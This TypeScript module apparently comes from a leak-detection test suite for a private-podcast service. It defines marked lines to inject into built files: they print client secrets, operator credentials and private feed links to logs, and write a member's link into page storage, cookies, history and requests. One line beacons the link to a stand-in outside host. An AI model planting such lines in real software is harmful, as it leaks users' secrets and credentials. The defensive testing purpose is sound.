/** Lines that each give a secret away, for every process and every place of a page. All must be found. */
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Plant } from './product.js';

const service = 'packages/service/dist/service';
const embed = 'packages/service/dist/embed';

/** A plant says this before the secret. */
export const markOf = (name: string) => `planted-in-${name}=`;

const print = (name: string, value: string) => `console.log("${markOf(name)}" + ${value});`;
const complain = (name: string, value: string) =>
  `process.stderr.write("${markOf(name)}" + ${value} + "\\n");`;

/** In each process, in one writing each. */
const inProcesses: Plant[] = [
  {
    name: 'service-output',
    file: `${service}/http/routes/private-feed.js`,
    after: 'const { secret = "", filename = "" } = c.req.param();',
    line: print('service-output', 'encodeURIComponent(c.req.url)'),
  },
  {
    name: 'service-errors',
    file: `${service}/http/routes/parser.js`,
    after: 'const url = c.req.query("url");',
    line: complain('service-errors', 'url'),
  },
  {
    name: 'feed-thread',
    file: `${service}/feeds/feed-worker.js`,
    after: 'parentPort?.postMessage(outcomeOf(() => ',
    line: `console.log("${markOf('feed-thread')}" + task.baseUrl) ?? `,
  },
  {
    name: 'demo-site',
    file: 'demo/site.js',
    after:
      'const answer = await subscribe(new Request(`${siteUrl}/subscribe`, { headers, signal }));',
    line: print('demo-site', 'btoa(await answer.clone().text())'),
  },
  {
    name: 'kit-handler',
    file: 'dist/publisher/handler/subscribe-handler.js',
    after: 'const body = await inTime(request, (signal) => bodyOf(question, request, signal));',
    line: complain('kit-handler', 'JSON.stringify(body).replaceAll("/", "\\\\/")'),
  },
  {
    name: 'site-check',
    file: 'packages/conformance/dist/conformance/site/run-site.js',
    after: 'const url = await feedUrlFor(site);',
    line: print('site-check', 'url'),
  },
  {
    name: 'conformance',
    file: 'packages/conformance/dist/conformance/run-cases.js',
    after: 'const statement = statements[id];',
    line: print('conformance', 'subject.config?.clientSecret'),
  },
  {
    name: 'operators-command',
    file: `${service}/commands/admin-client.js`,
    after: 'const credentials = await findCredentials(values, scope);',
    line: complain('operators-command', 'Buffer.from(credentials.clientSecret).toString("hex")'),
  },
];

/**
 * Calls a script of a page with the member's link as `u`, as soon as the page has it; `or` is taken before.
 * One timer looks for all of them: one each, in a hundred chunks, takes more time than the journeys.
 */
const withLink = (script: string, or = 'undefined') =>
  `;(globalThis.plants??=(()=>{const all=new Set(),look=()=>{setTimeout(look,50);if(!all.size)return;const e=document.querySelector("private-podcast-subscribe"),link=e?.shadowRoot?.querySelector("a[data-app]")?.href;for(const plant of all){const u=link??plant.or(e);if(u){all.delete(plant);plant.run(u,e)}}};setTimeout(look);return all})()).add({or:(e)=>${or},run(u,e){${script}}});`;

/** In each place of a page that others can read, by the element's own script. */
const inPlaces: Record<string, string> = {
  attribute: 'e.dataset.link="MARK"+u',
  text: 'const p=document.createElement("p");p.hidden=true;p.append("MARK"+u);document.body.append(p)',
  title: 'document.title="MARK"+u',
  history: 'history.pushState("MARK"+u,"")',
  address: 'if(location.pathname==="/member")history.replaceState(null,"","#MARK"+u)',
  storage: 'sessionStorage.link="MARK"+u',
  cookie: 'document.cookie="MARK"+encodeURIComponent(u)+";max-age=60"',
  database:
    'const r=indexedDB.open("links");r.onupgradeneeded=()=>r.result.createObjectStore("links",{autoIncrement:true});r.onsuccess=()=>{r.result.transaction("links","readwrite").objectStore("links").add("MARK"+u);r.result.close()}',
  'kept-answer':
    'caches.open("links").then(c=>c.put("/MARK"+encodeURIComponent(u),new Response("")))',
  event: 'document.dispatchEvent(new CustomEvent("pps-ready",{detail:"MARK"+u}))',
  'request-address': 'fetch("/MARK"+encodeURIComponent(u)).catch(()=>0)',
  referrer:
    'fetch("/any",{referrer:"/MARK"+encodeURIComponent(u),referrerPolicy:"unsafe-url"}).catch(()=>0)',
  'request-body': 'fetch("/any",{method:"POST",body:"MARK"+u}).catch(()=>0)',
  report: 'const i=new Image;i.src="https://elsewhere.example/MARK"+encodeURIComponent(u)',
  message: 'new BroadcastChannel("links").postMessage("MARK"+u)',
  'media-session': 'navigator.mediaSession.metadata=new MediaMetadata({title:"MARK"+u})',
};

const placesOfPage: Plant[] = Object.entries(inPlaces).map(([name, script]) => ({
  name,
  file: `${embed}/private-podcast-subscribe.js`,
  line: withLink(`try{${script.replace('MARK', markOf(name))}}catch{}`),
}));

/** Some chunks are for pages without a link: their element still has a token. */
const say = (name: string) =>
  withLink(`console.debug("${markOf(name)}"+u)`, 'e?.getAttribute("token")');

const consumePage: Plant = {
  name: 'consume-page-script',
  file: `${service}/http/consume-page/consume-page-script.js_raw.js`,
  after: "document.documentElement.classList.remove('reading');",
  line: JSON.stringify(say('consume-page-script')).slice(1, -1),
};

/** Chunks that these journeys may go without, each for what it says. */
export const seldom = [
  // Other browsers, other languages.
  ...['purify.es', 'language-table', 'language-table.player'],
  // Apps that a publisher names, or that other devices have.
  ...['castbox', 'overridden-apps', 'spotify', 'youtube-music'],
  // Feeds of another kind: long, with transcripts, dead, or without show notes.
  ...[
    'captions',
    'dead-link',
    'more-rows',
    'play-when-loaded',
    'read-html',
    'read-in-slices',
    'read-json',
  ],
  ...['renew-link', 'search-lines', 'transcript'],
].map((name) => `chunk:${name}`);

/** Texts of the languages that nobody reads on these journeys; English is there. */
const isOtherLanguage = /^(?!en[.-])[a-z]{2}(?:-[a-z]+)?(?:\.player)?-/;

/** @param folder of a copy of the product; @returns a line for each of its places */
export async function allPlants(folder: string): Promise<Plant[]> {
  const chunks = (await readdir(join(folder, embed, 'chunks'))).filter(
    (file) => !isOtherLanguage.test(file),
  );
  const inChunks = chunks.map((file) => {
    const name = file.replace(/-.{8}\.js$/, '');
    return { name: `chunk:${name}`, file: `${embed}/chunks/${file}`, line: say(`chunk:${name}`) };
  });
  return [...inProcesses, ...placesOfPage, consumePage, ...inChunks];
}
